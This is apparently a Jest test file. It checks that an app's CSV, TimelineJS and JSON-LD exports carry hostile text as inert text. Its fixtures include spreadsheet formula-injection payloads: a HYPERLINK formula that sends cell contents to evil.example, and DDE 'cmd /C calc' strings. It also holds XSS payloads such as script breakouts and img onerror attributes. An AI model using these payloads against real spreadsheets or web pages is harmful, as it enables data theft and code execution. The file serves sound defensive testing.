import type { NestFastifyApplication } from '@nestjs/platform-fastify';
import { parse } from 'csv-parse/sync';
import { Importer } from '../../src/import/importer';
import { readRecords } from '../../src/import/read-records';
import { createTestApp } from '../support/app';
import { claimBody, factBody, figureBody, sourceBody } from '../support/factories';

/**
 * Exports are opened where the record's text can run: a sheet in a spreadsheet (formulas), a
 * TimelineJS embed (HTML), a JSON-LD block in a page's <script>. Whatever a writer recorded, each
 * export carries it as text: no formula, no markup, no script end, no link but a web link.
 */
describe('exports carry hostile text as text', () => {
  let app: NestFastifyApplication;
  const SCRIPT = '</script><script>alert(1)</script><!--';
  const figure = figureBody({ name: `Deaths ${SCRIPT}`, description: 'line\u2028separator\u2029paragraph & more' });
  const claim = claimBody({
    claimant: '=HYPERLINK("https://evil.example/?"&A1,"click")',
    value: { kind: 'exact', value: 12 },
    source: sourceBody({ publisher: '@SUM(1+1)', title: '-2+3+cmd|\' /C calc\'!A0', url: 'https://example.org/a?b=<script>&c="x"', quote: `${SCRIPT} \u2028 &amp;` }),
  });
  const fact = factBody({
    title: '=1+1',
    summary: '+cmd|"/C calc"!A0 <img src=x onerror=alert(1)>',
    tags: ['<img src=x onerror=alert(1)>'],
    entities: [{ type: 'person', name: '-SUM(A1)' }],
    validTime: { at: '2019-03-28' },
    sources: [sourceBody({ publisher: "''=already quoted", title: '<b onclick=x>bold</b>', url: 'https://example.org/"onmouseover="alert(1)' })],
  });
  const plain = factBody({ title: '-12', validTime: { at: '2019-03-27' } });
  const get = (url: string) => app.inject({ method: 'GET', url });

  beforeAll(async () => {
    app = await createTestApp();
    const post = (url: string, body: unknown) => app.inject({ method: 'POST', url, headers: { 'content-type': 'application/json' }, payload: JSON.stringify(body) });
    for (const [url, body] of [['/figures', figure], [`/figures/${figure.id}/claims`, claim], ['/facts', fact], ['/facts', plain]] as const) {
      expect((await post(url, body)).statusCode).toBe(201);
    }
  });
  afterAll(async () => {
    await app.close();
  });

  /** OWASP: a cell a spreadsheet runs starts with = + - @, a tab or a carriage return; a plain number does not run. */
  const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(cell);

  it('the claims CSV holds no cell a spreadsheet would run, and imports back unchanged', async () => {
    const response = await get(`/export/figures/${figure.id}/claims?format=csv`);
    expect(response.statusCode).toBe(200);
    const rows = parse(response.body, { columns: true }) as Record<string, string>[];
    expect(rows.flatMap((r) => Object.values(r)).filter(runsAsFormula)).toEqual([]);
    expect(rows[0]).toMatchObject({ claimant: `'${claim.claimant}`, source_publisher: "'@SUM(1+1)", source_title: `'${claim.source!.title}`, value: '12' });
    const { records } = readRecords(response.body, 'csv');
    expect(records[0].body).toMatchObject({ claimant: claim.claimant, sources: [expect.objectContaining({ publisher: '@SUM(1+1)', title: claim.source!.title, quote: claim.source!.quote })] });
    expect(await app.get(Importer).run(records, { actor: 'round-trip' }, [])).toEqual(expect.objectContaining({ written: 0, unchanged: 1, rejected: 0 }));
  });

  it('the timeline CSV too, leaving a title that is a plain number as it is', async () => {
    const response = await get('/export/timeline?format=csv');
    const rows = parse(response.body, { columns: true }) as Record<string, string>[];
    expect(rows.flatMap((r) => Object.values(r)).filter(runsAsFormula)).toEqual([]);
    const hostile = rows.find((r) => r.id === fact.id)!;
    expect(hostile).toMatchObject({ title: "'=1+1", summary: `'${fact.summary}`, entities: 'person:-SUM(A1)', source_publisher: "'''=already quoted" });
    expect(rows.find((r) => r.id === plain.id)!.title).toBe('-12');
    const { records } = readRecords(response.body, 'csv');
    expect(records.find((r) => (r.body as { id?: string }).id === fact.id)!.body).toMatchObject({ title: '=1+1', summary: fact.summary, sources: [expect.objectContaining({ publisher: "''=already quoted" })] });
    expect(await app.get(Importer).run(records, { actor: 'round-trip' }, [])).toEqual(expect.objectContaining({ written: 0, unchanged: 2, rejected: 0 }));
  });

  it('TimelineJS: every text field is escaped HTML, the only markup is its own, and links are web links', async () => {
    const response = await get('/export/timeline?format=timelinejs');
    expect(response.body).not.toMatch(/[<>&\u2028\u2029]/);
    const slide = response.json().events.find((e: { unique_id: string }) => e.unique_id === fact.id);
    expect(slide.group).toBe('&lt;img src=x onerror=alert(1)&gt;');
    expect(slide.text.headline).toBe('=1+1');
    const html: string = slide.text.text;
    expect([...html.matchAll(/<\s*\/?\s*([a-z0-9]+)([^>]*)>/gi)].map((m) => [m[1], m[2].replace(/href="[^"]*"/, 'href')].join('').trim())).toEqual(['p', 'p', 'p', 'a href', 'a', 'p']);
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(html).toContain('href="https://example.org/&quot;onmouseover=&quot;alert(1)"');
    expect(slide.media).toEqual({ url: fact.sources[0].url, caption: '&lt;b onclick=x&gt;bold&lt;/b&gt;', credit: '&#39;&#39;=already quoted' });
  });

  it('JSON-LD stands inside a <script> element: no <, >, & or line separators as such, and the same values once parsed', async () => {
    const response = await get(`/export/figures/${figure.id}/claims?format=jsonld`);
    expect(response.statusCode).toBe(200);
    expect(response.body).not.toMatch(/[<>&\u2028\u2029]/);
    const page = `<script type="application/ld+json">${response.body}</script>`;
    expect(page.indexOf('</script')).toBe(page.length - '</script>'.length);
    const doc = response.json();
    expect(doc.name).toBe(`Claims about ${figure.name}`);
    const item = doc.itemListElement[0].item;
    expect(item.about.description).toBe(figure.description);
    expect(item.author.name).toBe(claim.claimant);
    expect(item.appearance[0]).toMatchObject({ url: claim.source!.url, text: claim.source!.quote });
  });
});
